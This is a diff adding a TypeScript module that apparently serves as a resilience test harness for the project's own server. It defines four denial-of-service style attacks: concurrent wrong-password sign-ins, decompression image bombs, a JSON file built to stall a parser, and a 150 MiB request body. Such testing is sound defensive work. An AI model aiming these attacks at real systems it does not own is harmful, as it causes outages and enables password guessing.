@@ -1,0 +1,152 @@
+import http from "node:http";
+import { deflateSync } from "node:zlib";
+import sharp from "sharp";
+import { say } from "@/scripts/lib/progress.mjs";
+import { pngOf } from "@/tests/support/images";
+import { Browser } from "@/tests/support/sign-in";
+
+/** What the attacks know of the server they are sent to. */
+export interface Victim {
+  url: string;
+  token: string;
+  practice: number;
+  /** The e-mail address of somebody who may sign in. */
+  email: string;
+  /** A Cookie header of a member of the practice's staff. */
+  cookie: string;
+}
+
+/** What one request of an attack came to. */
+export interface Answered {
+  outcome: string;
+  ms: number;
+}
+
+export const ATTACKS = { "sign-ins": signIns, images, upload, body } as const;
+export type AttackName = keyof typeof ATTACKS;
+
+const timed = async (work: () => Promise<string>): Promise<Answered> => {
+  const started = performance.now();
+  const outcome = await work().catch((error: NodeJS.ErrnoException) => error.code ?? error.message);
+  return { outcome, ms: performance.now() - started };
+};
+
+/** 40 sign-ins at once: half with wrong passwords for one account, half for addresses nobody has. */
+async function signIns({ url, email }: Victim): Promise<Answered[]> {
+  const tries = Array.from({ length: 40 }, (_, index) => (index % 2 === 0 ? email : `nobody-${index}@example.org`));
+  return Promise.all(
+    tries.map((address) =>
+      timed(async () => {
+        const { status, error } = await new Browser(url).signIn(address, "a wrong password");
+        return `${status} ${error ?? "signed in"}`;
+      }),
+    ),
+  );
+}
+
+const [WIDTH, HEIGHT] = [8_000, 5_000];
+
+/** Images of 40 megapixels in a few kilobytes: PNG, interlaced PNG, and JPEG (which takes more bytes). */
+export async function imageBombs(): Promise<Buffer[]> {
+  const row = 1 + WIDTH / 8;
+  const png = pngOf({
+    width: WIDTH,
+    height: HEIGHT,
+    bitDepth: 1,
+    pixels: deflateSync(Buffer.alloc(row * HEIGHT), { level: 9 }),
+  });
+  const canvas = { create: { width: WIDTH, height: HEIGHT, channels: 3 as const, background: "white" } };
+  const interlaced = await sharp(png).png({ progressive: true, palette: true, compressionLevel: 9 }).toBuffer();
+  const jpeg = await sharp(canvas).grayscale().jpeg({ quality: 10 }).toBuffer();
+  return [png, interlaced, jpeg];
+}
+
+/** Ten requests at once, each with one image of 40 megapixels. */
+async function images({ url, token, practice }: Victim): Promise<Answered[]> {
+  const bombs = await imageBombs();
+  say(`  image bombs of ${bombs.map(({ length }) => `${Math.ceil(length / 1024)} KiB`).join(", ")}`);
+  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
+  return Promise.all(
+    Array.from({ length: 10 }, (_, index) =>
+      timed(async () => {
+        const bytes = bombs[index % bombs.length] as Buffer;
+        const image = { base64_content: bytes.toString("base64"), content_type: "image/png" };
+        const sent = JSON.stringify({ group_name: "Fax", practice, images: [image] });
+        const answer = await fetch(`${url}/api/2.0/incoming_files`, { method: "POST", headers, body: sent });
+        await answer.arrayBuffer();
+        return String(answer.status);
+      }),
+    ),
+  );
+}
+
+const UPLOAD_LIMIT_MS = 120_000;
+
+/** A file that is one object with 58,000 empty lists before `results`. */
+async function upload({ url, practice, cookie }: Victim): Promise<Answered[]> {
+  const file = Buffer.from(`{${'"a":[],\n'.repeat(58_000)}"results":[]}`);
+  const runs = `${url}/api/staff/practices/${practice}/migrations`;
+  const send = async (method: string, address: string, content?: Buffer | object) => {
+    const isFile = content instanceof Buffer;
+    const answer = await fetch(address, {
+      method,
+      headers: {
+        cookie,
+        origin: url,
+        "content-type": isFile ? "application/octet-stream" : "application/json",
+        "if-match": "*",
+      },
+      ...(content ? { body: (isFile ? content : JSON.stringify(content)) as BodyInit } : {}),
+    });
+    const text = await answer.text();
+    if (!answer.ok) throw new Error(`${answer.status} ${text.slice(0, 100)}`);
+    return text === "" ? {} : JSON.parse(text);
+  };
+  let run = 0;
+  const uploaded = await timed(async () => {
+    run = (await send("POST", runs, { name: "export.json", size: file.length })).id;
+    await send("PUT", `${runs}/${run}/parts/1`, file);
+    await send("POST", `${runs}/${run}/work`, { work: "check" });
+    return "uploaded";
+  });
+  const checked = await timed(async () => {
+    const end = performance.now() + UPLOAD_LIMIT_MS;
+    for (;;) {
+      const {
+        run: { state },
+      } = await send("GET", `${runs}/${run}`);
+      if (state !== "reading" && state !== "checking") return `run is ${state}`;
+      if (performance.now() > end) return `run is still ${state}`;
+      await new Promise((resolve) => setTimeout(resolve, 250));
+    }
+  });
+  return [uploaded, checked];
+}
+
+const BODY_BYTES = 150 * 1024 * 1024;
+
+/** A body of 150 MiB to the sign-in. */
+async function body({ url }: Victim): Promise<Answered[]> {
+  const chunk = Buffer.alloc(1024 * 1024, "a=b&");
+  let sent = 0;
+  const answer = await timed(
+    () =>
+      new Promise<string>((resolve, reject) => {
+        const headers = { "content-type": "application/x-www-form-urlencoded", "content-length": BODY_BYTES };
+        const address = new URL("/api/auth/callback/credentials", url);
+        const request = http.request(address, { method: "POST", headers }, (response) => {
+          response.resume().on("end", () => resolve(String(response.statusCode)));
+        });
+        request.on("error", reject);
+        const write = () => {
+          while (sent < BODY_BYTES && !request.destroyed) {
+            sent += chunk.length;
+            if (!request.write(chunk)) return void request.once("drain", write);
+          }
+          request.end();
+        };
+        write();
+      }),
+  );
+  return [{ ...answer, outcome: `${answer.outcome} after ${Math.round(sent / 1024 / 1024)} MiB` }];
+}
